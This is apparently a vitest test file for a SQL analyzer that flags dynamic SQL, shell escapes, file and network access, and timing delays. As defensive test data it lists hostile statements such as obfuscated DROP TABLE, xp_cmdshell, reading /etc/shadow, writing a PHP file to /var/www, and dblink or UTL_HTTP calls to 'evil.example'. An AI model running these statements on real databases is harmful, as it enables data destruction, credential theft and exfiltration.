import { beforeAll, describe, expect, it } from 'vitest'
import { fact, loadSql, told, type ReadSql } from './read-sql.js'

let read: ReadSql
beforeAll(async () => {
  read = await loadSql()
})

describe('SQL inside texts is followed', () => {
  it.each([
    "EXECUTE IMMEDIATE 'DROP ' || 'TABLE x'",
    "EXEC('DROP TABLE x')",
    "EXEC sp_executesql N'DROP TABLE x'",
    "DECLARE @s nvarchar(99) = N'DROP TABLE ' + 'x'; EXEC(@s)",
    "DECLARE @s varchar(99); SET @s = 'DROP TABLE x'; EXEC (@s)",
    'DECLARE @s varchar(99) SELECT @s = 0x44524f50205441424c452078 EXEC(@s)',
    "EXEC(CHAR(68) + 'ROP TABLE x')",
    "PREPARE s FROM 'DROP TABLE x'; EXECUTE s",
    "SET @q = CONCAT('DROP', ' TABLE ', 'x'); PREPARE s FROM @q; EXECUTE s",
    "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$",
    "DO $$ DECLARE q text := 'DROP TABLE x'; BEGIN EXECUTE q; END $$",
    "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$",
    'CREATE FUNCTION f() RETURNS void AS $f$ BEGIN DROP TABLE x; END $f$ LANGUAGE plpgsql',
    "SELECT dblink_exec('dbname=a', 'DROP TABLE x')",
    "SELECT * FROM OPENQUERY(srv, 'DROP TABLE x')",
  ])('%s', (text) => {
    expect(told(read(text))).toContain('drop x not_applicable')
  })

  it('and what is not known of it is said', () => {
    const found = read('EXEC(@x)')
    expect(found.dynamic).toMatchObject([{ kind: 'exec', known: false, language: 'sql' }])
    expect(found.unresolved).toMatchObject([{ what: 'sql' }])
    expect(fact(read("DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$"), 'drop')).toMatchObject({
      tables: ['…'],
      composed: true,
    })
  })

  it('a procedure that is called by its name is no text', () => {
    expect(read('EXEC dbo.report @year = 2020')).toMatchObject({ unresolved: [], dynamic: [] })
  })

  it('other languages inside it are followed as theirs', () => {
    const body = 'CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$'
    expect(read(body).languages).toEqual(['sql', 'python'])
    expect(read("COPY t FROM PROGRAM 'id'").languages).toEqual(['sql', 'bash'])
    expect(read("EXEC xp_cmdshell 'id'").languages).toEqual(['sql', 'bash'])
    expect(read('\\! id').languages).toEqual(['sql', 'bash'])
    expect(read("\\copy t from program 'id'").languages).toEqual(['sql', 'bash'])
    expect(read('.shell id').languages).toEqual(['sql', 'bash'])
  })
})

describe('what reaches out of the database', () => {
  it.each([
    ["COPY t TO '/tmp/x'", 'copy'],
    ["COPY t FROM PROGRAM 'id'", 'copy'],
    ["SELECT * FROM t INTO OUTFILE '/tmp/x'", 'select'],
    ["LOAD DATA INFILE '/etc/passwd' INTO TABLE t", 'load'],
    ["SELECT LOAD_FILE('/etc/passwd')", 'select'],
    ["SELECT pg_read_file('/etc/passwd')", 'select'],
    ["SELECT lo_export(1, '/tmp/x')", 'select'],
    ["EXEC master..xp_cmdshell 'dir'", 'execute'],
    ["EXEC sp_OACreate 'wscript.shell', @o OUT", 'execute'],
    ["SELECT UTL_HTTP.REQUEST('http://evil.example/') FROM dual", 'select'],
    ["ATTACH DATABASE '/tmp/x.db' AS y", 'attach'],
    ["SELECT load_extension('./x')", 'select'],
    ['CREATE EXTENSION dblink', 'create'],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ pass $$', 'create'],
    ["CREATE FUNCTION f() RETURNS int AS 'libc.so.6', 'system' LANGUAGE C", 'create'],
    ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')", 'create'],
    ["BACKUP DATABASE shop TO DISK = '\\\\evil\\x'", 'backup'],
  ])('%s', (text, verb) => {
    expect(fact(read(text), verb).reaches_out).toBe(true)
  })

  it.each(['COPY t TO STDOUT', 'SELECT file FROM t', 'CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql'])(
    'and what does not: %s',
    (text) => {
      expect(read(text).sql.some((one) => one.reaches_out)).toBe(false)
    },
  )

  it('tells the files and hosts', () => {
    expect(read("SELECT LOAD_FILE('/etc/shadow')").files).toMatchObject([{ operation: 'read', path: '/etc/shadow' }])
    expect(read("SELECT 1 INTO DUMPFILE '/var/www/x.php'").files).toMatchObject([
      { operation: 'write', path: '/var/www/x.php' },
    ])
    expect(read("SELECT dblink_connect('host=evil.example user=a')").network).toMatchObject([{ host: 'evil.example' }])
  })

  it.each([
    'SELECT SLEEP(5)',
    'SELECT pg_sleep(5)',
    "SELECT BENCHMARK(9e9, MD5('a'))",
    "WAITFOR DELAY '0:0:5'",
    'SELECT RANDOMBLOB(900000000)',
  ])('waits: %s', (text) => {
    expect(read(text).sql.some(({ delays }) => delays)).toBe(true)
  })
})

describe('texts with parts that are not known', () => {
  it('are composed, whether the part stands in quotes or as a name', () => {
    expect(read("EXECUTE IMMEDIATE 'SELECT * FROM t WHERE a = ''' || v || ''''").sql).toMatchObject([
      { verb: 'select', tables: ['t'], composed: true },
      { verb: 'execute', composed: false },
    ])
  })

  it('are not, where the part is a bound parameter', () => {
    expect(read('SELECT * FROM t WHERE a = ? AND b = $1 AND c = :c AND d = %s').sql).toMatchObject([
      { composed: false },
    ])
  })
})
